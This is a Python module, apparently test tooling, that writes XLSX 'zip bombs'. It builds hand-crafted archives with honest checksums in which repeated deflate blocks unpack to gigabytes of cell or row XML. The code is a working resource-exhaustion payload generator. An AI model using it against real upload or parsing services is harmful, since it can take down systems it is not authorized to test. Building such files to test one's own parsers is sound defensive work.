"""XLSX workbooks that unpack to far more than they weigh, made in a second.

A deflate stream flushed with Z_FULL_FLUSH restarts from nothing, so one compressed
block can be repeated to stand for the same text repeated: a gigabyte of cell text costs
a few megabytes on disk and one pass of CRC-32 to make. The archive is written by hand
with honest sizes and checksums: it is a real bomb, not a lying header.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path

from openpyxl import Workbook

SHEET = "xl/worksheets/sheet1.xml"
SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b"<sheetData>"
    b'<row r="1"><c r="A1" t="inlineStr"><is><t>First name</t></is></c>'
    b'<c r="B1" t="inlineStr"><is><t>Last name</t></is></c></row>'
)
SHEET_TAIL = b"</sheetData></worksheet>"


def _parts() -> dict[str, bytes]:
    wb = Workbook()
    wb.active.append(["First name", "Last name"])
    buf = io.BytesIO()
    wb.save(buf)
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as z:
        return {name: z.read(name) for name in z.namelist()}


def _deflate_repeated(head: bytes, block: bytes, times: int, tail: bytes) -> tuple[bytes, int, int]:
    co = zlib.compressobj(1, zlib.DEFLATED, -15)
    first = co.compress(head) + co.flush(zlib.Z_FULL_FLUSH)
    once = co.compress(block) + co.flush(zlib.Z_FULL_FLUSH)
    last = co.compress(tail) + co.flush(zlib.Z_FINISH)
    crc = zlib.crc32(head)
    for _ in range(times):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(tail, crc)
    size = len(head) + len(block) * times + len(tail)
    return first + once * times + last, crc, size


def write_bomb(
    path: Path, block: bytes, times: int, *, head: bytes = SHEET_HEAD, tail: bytes = SHEET_TAIL
) -> int:
    """An .xlsx whose first sheet is ``head + block * times + tail``; returns its size
    unpacked."""
    parts = _parts()
    entries = []
    out = io.BytesIO()
    unpacked_total = 0
    for name, data in parts.items():
        if name == SHEET:
            payload, crc, size = _deflate_repeated(head, block, times, tail)
        else:
            co = zlib.compressobj(6, zlib.DEFLATED, -15)
            payload, crc, size = co.compress(data) + co.flush(), zlib.crc32(data), len(data)
        unpacked_total += size
        raw = name.encode()
        offset = out.tell()
        out.write(
            struct.pack(
                "<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(payload), size, len(raw), 0
            )
        )
        out.write(raw)
        out.write(payload)
        entries.append((raw, crc, len(payload), size, offset))
    start = out.tell()
    for raw, crc, csize, size, offset in entries:
        out.write(
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                20,
                20,
                0,
                8,
                0,
                0,
                crc,
                csize,
                size,
                len(raw),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
        )
        out.write(raw)
    end = out.tell()
    out.write(
        struct.pack(
            "<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), end - start, start, 0
        )
    )
    path.write_bytes(out.getvalue())
    return unpacked_total


def cell_bomb(path: Path, megabytes: int) -> int:
    """One cell holding ``megabytes`` MiB of text."""
    head = SHEET_HEAD + b'<row r="2"><c r="A2" t="inlineStr"><is><t>'
    tail = b"</t></is></c></row>" + SHEET_TAIL
    return write_bomb(path, b"A" * (1 << 20), megabytes, head=head, tail=tail)


def rows_bomb(path: Path, rows: int) -> int:
    """``rows`` rows of two short cells each."""
    row = b'<row><c t="inlineStr"><is><t>Ana</t></is></c><c t="inlineStr"><is><t>Diallo</t></is></c></row>'
    per = 1000
    return write_bomb(path, row * per, rows // per)
